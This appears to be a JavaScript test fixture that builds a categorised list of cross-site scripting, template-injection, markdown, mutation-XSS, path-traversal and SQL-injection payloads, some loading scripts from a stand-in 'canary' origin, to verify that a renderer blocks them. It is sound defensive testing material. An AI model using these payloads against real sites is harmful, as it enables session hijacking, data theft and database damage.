// What people write to make a page do something else. Each would call pwned(n)
// or fetch from CANARY if it were ever taken for markup, style, a template, a
// link with code or a header. Written for this project, by kind of trick.

/** @param {string} canary an origin that nobody may ask for anything */
export function payloads(canary) {
  const run = 'pwned(1)'
  const scripts = [
    `<script>${run}</script>`,
    `<SCRIPT SRC=${canary}/s.js></SCRIPT>`,
    `<script type=module>import('${canary}/m.js')</script>`,
    `</title><script>${run}</script>`,
    `</textarea><script>${run}</script>`,
    `</style><script>${run}</script>`,
    `--><script>${run}</script><!--`,
    `]]><script>${run}</script>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<script\t>${run}</script>`,
    `<script/x>${run}</script/x>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<template><script>${run}</script></template>`,
    `<xmp><script>${run}</script></xmp>`,
  ]
  const handlers = ['img src=x onerror', 'svg onload', 'body onload', 'details open ontoggle', 'input autofocus onfocus', 'video src=x onerror', 'audio src=x onerror', 'marquee onstart', 'select autofocus onfocus', 'textarea autofocus onfocus', 'iframe onload', 'object data=x onerror', 'div onpointerover', 'p onanimationstart style=animation-name:x', 'a href=# onclick', 'form onsubmit', 'button onclick', 'dialog open onclose', 'link rel=stylesheet href=x onerror', 'embed src=x onload']
    .map((h) => `<${h}="${run}">`)
  const links = [
    `<a href="javascript:${run}">press</a>`,
    `<a href="java\tscript:${run}">press</a>`,
    `<a href="&#106;avascript:${run}">press</a>`,
    `<a href="data:text/html,<script>${run}</script>">press</a>`,
    `<a href="vbscript:${run}">press</a>`,
    `javascript:${run}`,
    `JaVaScRiPt:alert(1)//http://example.com/`,
    `data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==`,
    `http://example.com/"onmouseover="${run}`,
    `https://example.com/'><script>${run}</script>`,
    `https://user:secret@example.com/\u202Egpj.exe`,
    `http://javascript:${run}@example.com/`,
    `https://example.com/%0d%0aSet-Cookie:x=1`,
    `mailto:a@example.com?subject=<script>${run}</script>`,
  ]
  const loads = [
    `<img src="${canary}/i.png">`,
    `<img srcset="${canary}/i.png 1x">`,
    `<picture><source srcset="${canary}/i.webp"></picture>`,
    `<link rel="stylesheet" href="${canary}/c.css">`,
    `<link rel="prefetch" href="${canary}/p">`,
    `<link rel="dns-prefetch" href="${canary}">`,
    `<style>@import "${canary}/c.css";</style>`,
    `<style>*{background:url(${canary}/b.png)}</style>`,
    `<div style="background:url('${canary}/b.png')">x</div>`,
    `<iframe src="${canary}/f"></iframe>`,
    `<iframe srcdoc="<script>${run}</script>"></iframe>`,
    `<object data="${canary}/o"></object>`,
    `<embed src="${canary}/e">`,
    `<video poster="${canary}/v.png"></video>`,
    `<audio src="${canary}/a.mp3" autoplay></audio>`,
    `<base href="${canary}/">`,
    `<meta http-equiv="refresh" content="0;url=${canary}/r">`,
    `<form action="${canary}/f"><input type=submit autofocus></form>`,
    `<svg><use href="${canary}/u.svg#a"/></svg>`,
    `<svg><image href="${canary}/s.png"/></svg>`,
    `<math><mtext><img src="${canary}/m.png"></mtext></math>`,
    `<body background="${canary}/bg.png">`,
    `<table background="${canary}/t.png"><tr><td>x</td></tr></table>`,
  ]
  const markdown = [
    `![picture](${canary}/md.png)`,
    `[press](javascript:${run})`,
    `[press](<javascript:${run}>)`,
    `[![x](${canary}/n.png)](javascript:${run})`,
    `<javascript:${run}>`,
    `[a]: ${canary}/ref.png\n![a][a]`,
    '```html\n<script>' + run + '</script>\n```',
    '`<img src=x onerror=' + run + '>`',
    `[x](data:text/html,<script>${run}</script>)`,
    `# <img src=x onerror=${run}>`,
    `| a |\n|---|\n| <svg onload=${run}> |`,
    `:smile:<img src=x onerror=${run}>:smile:`,
  ]
  const templates = [
    `{{constructor.constructor('${run}')()}}`,
    `{{ '${run}' }} {{7*7}} {{contact.name}}`,
    '${' + run + '}',
    `#{${run}}`,
    `<%= ${run} %>`,
    `{% raw %}<script>${run}</script>{% endraw %}`,
    `<div v-html="'<img src=x onerror=${run}>'"></div>`,
    `<component :is="'script'">${run}</component>`,
    `$t('app.name') @:app.name | {0} {count}`,
  ]
  const mutations = [
    `<svg><style><img src=x onerror=${run}></style></svg>`,
    `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
    `<!--<img src="--><img src=x onerror=${run}//">`,
    `<img alt="\`onerror=${run}" src=x>`,
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `&#x3C;img src=x onerror=${run}&#x3E;`,
    `\\u003cimg src=x onerror=${run}\\u003e`,
    `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    `\uFF1Cscript\uFF1E${run}\uFF1C/script\uFF1E`,
    `<\u200Bscript>${run}</script>`,
    `'"><svg/onload=${run}>`,
    `";${run};//`,
    `');${run};//`,
  ]
  const text = [
    '\u202Etxt.exe\u202C and \u2066isolated\u2069',
    'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B\u030C\u030D\u030E'.repeat(20),
    '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}'.repeat(100),
    'W'.repeat(5000),
    '\uFEFF\u2028line\u2029paragraph',
    '=HYPERLINK("http://example.com","press")',
    'constructor __proto__ toString hasOwnProperty',
    '../../../../etc/passwd\\..\\..\\',
    "Robert'); DROP TABLE message;--",
    '%s%n%x {0} $1 \\0',
  ]
  return [...scripts, ...handlers, ...links, ...loads, ...markdown, ...templates, ...mutations, ...text]
}
